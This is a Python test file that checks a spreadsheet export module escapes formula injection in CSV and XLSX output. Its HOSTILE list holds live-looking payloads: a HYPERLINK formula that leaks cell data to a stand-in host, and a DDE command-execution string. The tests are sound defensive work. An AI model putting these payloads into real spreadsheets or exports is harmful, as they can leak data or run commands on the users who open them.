"""Exports and copies never carry a live formula: the hostile names of issue 14, both formats."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
from openpyxl import load_workbook

from core.export import export_table, safe_frame, safe_text

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
]


def test_safe_text_escapes_formula_starts_only() -> None:
    assert [safe_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert safe_text("茶杯 = cup") == "茶杯 = cup"
    assert safe_text("'already") == "'already"
    assert safe_text(-5.0) == -5.0  # a refund is a number, not text
    assert safe_text(None) is None


def test_csv_export_escapes_text_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"product_name": [*HOSTILE, "茶杯"], "amount": [-5.0, 1, 2, 3, 4, 5, 6, 7, 8.5]}
    )
    path = export_table(frame, tmp_path / "list.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["product_name", "amount"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in HOSTILE] + ["茶杯"]
    assert [float(r[1]) for r in rows[1:]] == [-5.0, 1, 2, 3, 4, 5, 6, 7, 8.5]


def test_xlsx_export_writes_strings_never_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "product_name": [*HOSTILE, "bell\x07 cup"],
            "amount": [1.5, -2.0, 3, np.nan, np.inf, 6, 7, 8, 9],
            "order_date": pd.to_datetime(["2011-03-01"] * 9),
        }
    )
    path = export_table(frame, tmp_path / "list.xlsx")
    sheet = load_workbook(path).active
    assert sheet is not None
    names = [sheet.cell(row=r, column=1) for r in range(2, 11)]
    assert all(c.data_type == "s" for c in names)
    # as typed (XML reads a CR back as LF); the control character is dropped
    assert [c.value for c in names] == [*HOSTILE[:-1], "\n=1+2", "bell cup"]
    amounts = [sheet.cell(row=r, column=2).value for r in range(2, 11)]
    assert amounts == [1.5, -2.0, 3, None, None, 6, 7, 8, 9]
    assert sheet.cell(row=2, column=3).value.year == 2011
    # and read back the way ShopLens reads workbooks: the same text
    back = pd.read_excel(path, engine="calamine")
    assert back["product_name"].tolist()[:3] == HOSTILE[:3]


def test_safe_frame_escapes_headers_and_leaves_the_original() -> None:
    frame = pd.DataFrame({"=evil": ["=1"], "n": [1]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=evil", "n"]
    assert safe.iloc[0, 0] == "'=1" and frame.iloc[0, 0] == "=1"
